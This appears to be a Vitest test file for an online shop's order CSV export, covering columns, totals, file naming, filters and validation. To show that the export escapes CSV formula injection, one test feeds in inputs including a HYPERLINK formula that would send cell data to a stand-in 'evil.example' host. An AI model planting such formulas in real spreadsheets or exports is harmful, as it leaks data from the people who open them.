import { addToCart } from '@tailorbird/contract/cart';
import { addRows } from '@tailorbird/contract/cart-groups';
import { exportOrders } from '@tailorbird/contract/order-desk';
import { listOrders, placeOrder, setOrderItemNote, updateOrder } from '@tailorbird/contract/orders';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openShop, type TestShop } from '../../test/app.ts';
import { csvRowsOf } from '../../test/csv.ts';
import { accounts, colour, products, size } from '../../test/fixture.ts';
import { cartOf, fill, order as placeOne } from '../../test/shopper.ts';
import { joinList, splitList } from '../files/csv-cell.ts';
import { exportName } from './export-orders.ts';

const { customer, other, admin } = accounts;
const PICK_UP = 'Pick up at the workshop';

let shop: TestShop;
let token: string;
beforeAll(async () => {
  shop = await openShop();
  token = await shop.logIn(admin);
});
beforeEach(() => shop.database.query('delete from orders'));
afterAll(() => shop.close());

const send = (query: Record<string, string> = {}) => shop.call(exportOrders, { token, query });
const line = (why: string, totalCents: number) => ({
  label: why,
  quantity: 1,
  unitCents: totalCents,
  totalCents,
  why,
});
const time = (date: string) => date.slice(0, 19).replace('T', ' ');

describe('the orders as CSV', () => {
  it('are a line for each item, newest first', async () => {
    const theirs = await shop.logIn(customer);
    const selectedOptions = [
      { optionId: colour.id, valueId: colour.olive.id },
      { optionId: size.id, valueId: size.small.id },
    ];
    const tote = { product: products.tote.id, quantity: 3, note: 'for Änne', selectedOptions };
    await shop.ask(addToCart, { token: theirs, body: tote });
    const cart = await fill(shop, theirs);
    const { order: first } = await shop.ask(placeOrder, { token: theirs, body: cart });
    const second = await placeOne(shop, await shop.guest());
    const body = { status: 'completed', adminNotes: 'paid\r\ntwice' };
    await shop.ask(updateOrder, { token, params: { id: first._id }, body });

    const [head, ...lines] = (await send()).bytes.toString().split(/\r\n(?=TB-|$)/);
    expect(head).toBe(
      '\uFEFFOrder,Date,UTC offset,Status,Customer,Email,Item,Quantity,Unit price,Line total,Order total,Options,Note,Admin notes,Setup,Discount,Tax,Tax included,Group,Made,Delivery,Delivery method,Promised day,Wished day,Delivery address,Contact name,Contact email,Contact phone,Billing address,Payment,Paid,Refunded,Open',
    );
    const about = `${first.orderId},${time(first.orderDate)},UTC+00:00,completed,${customer.name},${customer.email}`;
    expect(lines[0]).toBe(
      `${second.orderId},${time(second.orderDate)},UTC+00:00,pending,,,Plain Sash,1,12.05,12.05,12.05,,,,,,,,,,,${PICK_UP},,,,,,,,open,,,12.05`,
    );
    expect(lines.slice(1).toSorted()).toEqual([
      '',
      `${about},Market Tote,3,24.50,73.50,85.55,Colour: Olive | Size: Small,for Änne,"paid\r\ntwice",,,,,,,,${PICK_UP},,,,,,,,open,,,85.55`,
      `${about},Plain Sash,1,12.05,12.05,85.55,,,"paid\r\ntwice",,,,,,,,,,,,,,,,,,,`,
    ]);
  });

  it('name the group of an item by its number within the order', async () => {
    const theirs = await shop.logIn(customer);
    await fill(shop, theirs, { note: 'alone' });
    const rows = [{ note: 'a' }, { note: 'b' }];
    for (const product of [products.sash.id, products.patch.id]) {
      await shop.ask(addRows, { token: theirs, body: { product, rows } });
    }
    await shop.ask(placeOrder, { token: theirs, body: await cartOf(shop, theirs) });
    const lines = await csvRowsOf((await send()).bytes);
    expect(lines.map((cells) => `${cells.at(-21)} ${cells.at(-15)}`)).toEqual([
      'alone ',
      'a 1',
      'b 1',
      'a 2',
      'b 2',
    ]);
  });

  it('add up to each order: setup, discounts and tax once, in its first line, as numbers', async () => {
    const theirs = await shop.logIn(customer);
    await fill(shop, theirs);
    const cart = await fill(shop, theirs, { product: products.patch.id, quantity: 3 });
    await shop.ask(placeOrder, { token: theirs, body: cart });
    const besides = [
      line('setup', 600),
      line('discount', -241),
      line('discount', -50),
      line('tax', 125),
    ];
    await shop.database.query(
      'update orders set price_lines = $1, total_cents = total_cents + 434',
      [JSON.stringify(besides)],
    );
    const { bytes } = await send();
    const rows = await csvRowsOf(bytes);
    expect(rows.map((row) => [row[9], row[10], ...row.slice(-19, -15)])).toEqual([
      ['12.05', '25.69', '6.00', '-2.91', '1.25', ''],
      ['9.30', '25.69', '', '', '', ''],
    ]);
    // a spreadsheet takes it for a number
    expect(bytes.toString()).toContain(`,6.00,-2.91,1.25,,,,,${PICK_UP},,,,,,,,open,,,21.35\r\n`);
  });

  it('are a file to download whose name has the day', async () => {
    const { status, headers } = await send();
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'cache-control': 'no-store',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="tailorbird-orders-\d{4}-\d\d-\d\d\.csv"$/,
      ),
    });
    const moment = new Date('2026-05-14T23:59:59Z');
    expect(exportName('UTC', moment)).toBe('tailorbird-orders-2026-05-14.csv');
    expect(exportName('Europe/Berlin', moment)).toBe('tailorbird-orders-2026-05-15.csv');
  });

  it('of a shop without any have the header alone', async () => {
    const { bytes } = await send();
    expect(bytes.toString().trimEnd().split('\r\n')).toHaveLength(1);
  });

  it.each([
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '＝1+1',
    "'=1+1",
    'a "quoted" name',
    'a, b; c',
    "O'Hara",
    'two\nlines\r\nand three',
  ])('hold %j as text, wherever a person wrote it', async (text) => {
    const placed = await placeOne(shop, await shop.logIn(customer));
    const params = { id: placed._id, itemId: placed.cart.items[0]?._id ?? '' };
    await shop.ask(updateOrder, { token, params, body: { adminNotes: text } });
    await shop.ask(setOrderItemNote, { token, params, body: { note: text } });
    await shop.database.query(
      'update orders set customer_name = $1, customer_email = $1, order_number = $1',
      [text],
    );
    const [address, contact] = [
      { name: text, country: 'GB' },
      { name: text, email: text, phone: text },
    ];
    await shop.database.query('update orders set details = $1', [
      JSON.stringify({
        contact,
        delivery: { method: { _id: 'x', name: text, kind: 'pick-up' }, cost: 0, address },
      }),
    ]);
    await shop.database.query('update order_items set product_name = $1, selected_options = $2', [
      text,
      JSON.stringify([{ optionId: '', optionName: text, valueId: '', value: 'x' }]),
    ]);
    const { bytes } = await send();
    expect(await csvRowsOf(bytes)).toEqual([
      [
        text,
        time(placed.orderDate),
        'UTC+00:00',
        'pending',
        text,
        text,
        text,
        '1',
        '12.05',
        '12.05',
        '12.05',
        `${text}: x`,
        text,
        text,
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        text,
        '',
        '',
        joinList([text, 'United Kingdom']),
        text,
        text,
        text,
        '',
        'open',
        '',
        '',
        '12.05',
      ],
    ]);
    // no cell begins like a formula, in quotation marks or without
    expect(bytes.toString()).not.toMatch(/(^|,|\r\n)"?[=+\-@\t＝＋－＠]/u);
  });

  it('keep choices apart, whatever their names are made of', async () => {
    const placed = await placeOne(shop, await shop.logIn(customer));
    const chosen = [
      { optionId: '', optionName: 'Colour', valueId: '', value: 'Olive | Size: Large' },
      { optionId: '', optionName: 'Size', valueId: '', value: 'Small, Thread: Gold' },
      { optionId: '', optionName: 'Wording', valueId: null, value: 'A” | Thread: “B\\' },
    ];
    await shop.database.query('update order_items set selected_options = $1 where order_id = $2', [
      JSON.stringify(chosen),
      placed._id,
    ]);
    const [row] = await csvRowsOf((await send()).bytes);
    expect(row?.at(-22)).toBe(
      'Colour: Olive \\| Size: Large | Size: Small, Thread: Gold | Wording: “A” \\| Thread: “B\\\\”',
    );
    expect(splitList(row?.at(-22) ?? '')).toEqual([
      'Colour: Olive | Size: Large',
      'Size: Small, Thread: Gold',
      'Wording: “A” | Thread: “B\\”',
    ]);
  });

  it('are those that the filter finds', async () => {
    const theirs = await shop.logIn(customer);
    const placed = [
      await placeOne(shop, theirs),
      await placeOne(shop, theirs),
      await placeOne(shop, await shop.logIn(other)),
      await placeOne(shop, await shop.guest()),
    ];
    for (const [day, { _id }] of placed.entries()) {
      await shop.database.query(
        "update orders set placed_at = timestamptz '2026-03-01 23:59:59Z' + make_interval(days => $2) where id = $1",
        [_id, day],
      );
    }
    const body = { status: 'cancelled' };
    await shop.ask(updateOrder, { token, params: { id: placed[1]?._id ?? '' }, body });
    const filters: Record<string, string>[] = [
      {},
      { status: 'cancelled' },
      { status: 'pending', customerEmail: 'CORA@' },
      { startDate: '2026-03-02', endDate: '2026-03-03' },
      { orderNumber: placed[2]?.orderId.slice(4).toLowerCase() ?? '' },
      { customerEmail: 'nobody@' },
    ];
    const found = new Set<number>();
    for (const query of filters) {
      const { orders } = await shop.ask(listOrders, { token, query });
      const rows = await csvRowsOf((await send(query)).bytes);
      expect(rows.map(([number]) => number)).toEqual(orders.map(({ orderId }) => orderId));
      found.add(orders.length);
    }
    expect(found).toEqual(new Set([4, 1, 2, 0]));
  });

  it.each([
    [{ status: 'lost' }, 'status must be all, pending, completed or cancelled.'],
    [{ startDate: 'today' }, 'startDate must be a date that looks like 2026-05-14.'],
    [{ orderNumber: 'x'.repeat(41) }, 'orderNumber must be 40 characters or less.'],
  ])('asked for with %j are refused in a sentence', async (query, error) => {
    const answer = await send(query);
    expect(answer).toMatchObject({ status: 400, body: { error } });
    expect(answer.headers['content-disposition']).toBeUndefined();
  });
});
